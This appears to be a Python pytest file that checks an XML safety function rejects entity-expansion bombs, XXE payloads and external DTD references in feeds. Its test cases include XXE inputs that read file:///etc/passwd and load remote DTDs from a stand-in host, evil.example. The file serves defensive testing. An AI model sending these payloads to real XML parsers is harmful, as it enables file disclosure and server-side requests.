"""The XML gate: entity bombs and external references never reach a parser."""

from __future__ import annotations

from pathlib import Path

import pytest

from mailguard.core.errors import ParseError
from mailguard.sources.xmlsafety import ensure_safe_xml

SAMPLES = Path(__file__).resolve().parent.parent / "samples"

ENTITIES = "unsafe XML: entity declarations are not allowed"
EXTERNAL_DTD = "unsafe XML: external DTD references are not allowed"


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        pytest.param((SAMPLES / "feed-billion-laughs.xml").read_bytes(), ENTITIES, id="lol"),
        pytest.param((SAMPLES / "feed-xxe.xml").read_bytes(), ENTITIES, id="xxe-file"),
        pytest.param(
            b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><rss/>',
            ENTITIES,
            id="parameter-entity",
        ),
        pytest.param(
            b'<!DOCTYPE rss SYSTEM "http://evil.example/rss.dtd"><rss/>',
            EXTERNAL_DTD,
            id="external-dtd-system",
        ),
        pytest.param(
            b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
            b'"http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"/>',
            EXTERNAL_DTD,
            id="external-dtd-public",
        ),
        pytest.param(
            '<?xml version="1.0" encoding="utf-16"?>'
            '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><rss>&e;</rss>'.encode("utf-16"),
            ENTITIES,
            id="utf-16",
        ),
        pytest.param(
            b'<rss><a></b><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
            ENTITIES,
            id="entity-after-a-syntax-error",
        ),
        pytest.param(
            b'<rss></oops><!DOCTYPE rss SYSTEM "http://evil.example/x.dtd">',
            EXTERNAL_DTD,
            id="external-dtd-after-a-syntax-error",
        ),
        pytest.param(
            b'<?xml version="1.0"?>\n<!doctype x [<!entity e "x">]><rss>&e;</rss>',
            ENTITIES,
            id="lowercase-declarations-in-malformed-xml",
        ),
    ],
)
def test_unsafe_xml_is_refused_with_a_one_line_reason(data: bytes, reason: str) -> None:
    with pytest.raises(ParseError) as caught:
        ensure_safe_xml(data, "feed.xml")
    assert str(caught.value) == f"feed.xml: {reason}"


@pytest.mark.parametrize(
    ("data", "well_formed"),
    [
        pytest.param(b'<?xml version="1.0"?><rss version="2.0"><channel/></rss>', True, id="rss"),
        pytest.param(
            b"<!DOCTYPE rss [<!ELEMENT rss ANY>]><rss/>", True, id="internal-subset-no-entities"
        ),
        pytest.param(b"<rss><title>A & B</title></rss>", False, id="bare-ampersand"),
        pytest.param(b"<rss><title>caf&eacute;</title></rss>", False, id="html-entity"),
        pytest.param(b"<rss><item></rss>", False, id="unclosed"),
        pytest.param(b'<?xml version="1.0" encoding="klingon"?><rss/>', False, id="encoding"),
        pytest.param(b"SYSTEM PUBLIC maintenance notes", False, id="words-are-not-doctypes"),
        pytest.param(b"", False, id="empty"),
    ],
)
def test_safe_xml_passes_and_tells_whether_it_is_well_formed(
    data: bytes, well_formed: bool
) -> None:
    assert ensure_safe_xml(data, "feed.xml") is well_formed
